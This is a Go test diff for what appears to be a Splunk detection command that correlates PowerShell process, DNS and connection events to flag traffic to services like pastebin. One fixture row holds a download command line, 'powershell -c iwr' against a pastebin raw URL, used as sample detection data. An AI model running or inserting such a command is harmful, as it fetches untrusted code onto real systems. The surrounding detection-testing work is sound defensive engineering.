@@ -224,3 +224,63 @@ func TestArguments(t *testing.T) {
 	require.True(t, o.Map)
 	require.Equal(t, []string{"window=60", "max_times=10", "all=t"}, o.Args, "the map phase gets the other arguments, not phase=map twice")
 }
+
+func table(fields []string, rows ...[]string) *splunkd.Table {
+	t := &splunkd.Table{Fields: fields}
+	for _, r := range rows {
+		row := make([]splunkd.Value, len(fields))
+		for i, v := range r {
+			if v != "" {
+				row[i] = splunkd.Value{v}
+			}
+		}
+		t.Rows = append(t.Rows, row)
+	}
+	return t
+}
+
+var eventFields = []string{"EventCode", "host", "ProcessGuid", "_time", "Image", "CommandLine", "ParentImage", "DestinationHostname", "DestinationIp", "QueryName", "QueryResults"}
+
+// TestSharedAddress: a connection goes to the name the process asked for
+// nearest in time, even when a service shares the address later.
+func TestSharedAddress(t *testing.T) {
+	ps := `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
+	in := table(eventFields,
+		[]string{"22", "h", "{g1}", "1000.5", ps, "", "", "", "", "shop.example", "::ffff:104.20.67.143;"},
+		[]string{"3", "h", "{g1}", "1001", ps, "", "", "", "104.20.67.143", "", ""},
+		[]string{"22", "h", "{g1}", "2500", ps, "", "", "", "", "pastebin.com", "::ffff:104.20.67.143;"},
+	)
+	res := run(t, in, 1, "all=true")
+	require.Len(t, res.Table.Rows, 1, "%v", rows(res.Table))
+	require.Equal(t, "pastebin", first(res.Table.Get(0, "is_legit_webservice")))
+	require.Equal(t, "0", first(res.Table.Get(0, "connection_count")), "the connection was to shop.example")
+	require.Equal(t, "1", first(res.Table.Get(0, "dns_count")))
+}
+
+// TestCapsDoNotDependOnSpread: past max_times the earliest kept are the
+// same whatever the spread, and the cap is reported.
+func TestCapsDoNotDependOnSpread(t *testing.T) {
+	ps := `C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe`
+	rs := [][]string{{"1", "h", "{G1}", "0", ps, "powershell -c iwr https://pastebin.com/raw/x", `C:\Windows\explorer.exe`, "", "", "", ""}}
+	for i := 0; i < 120; i++ {
+		rs = append(rs, []string{"3", "h", "{g1}", fmt.Sprint(60 * (i + 1)), ps, "", "", "pastebin.com", "104.20.67.143", "", ""})
+	}
+	in := table(eventFields, rs...)
+	var want []string
+	for _, n := range []int{1, 2, 5} {
+		res := run(t, in, n, "max_times=100")
+		got := rows(res.Table)
+		require.Len(t, got, 1)
+		require.Equal(t, "100", first(res.Table.Get(0, "connection_count")), "%d indexers", n)
+		require.Equal(t, "6000", first(res.Table.Get(0, "last_seen")), "the earliest 100 of the union")
+		if want == nil {
+			want = got
+		}
+		require.Equal(t, want, got, "%d indexers", n)
+		var warned bool
+		for _, m := range res.Messages {
+			warned = warned || m.Level == "WARN" && strings.Contains(m.Text, "max_times=100")
+		}
+		require.True(t, warned, "%d indexers: the cap is reported", n)
+	}
+}
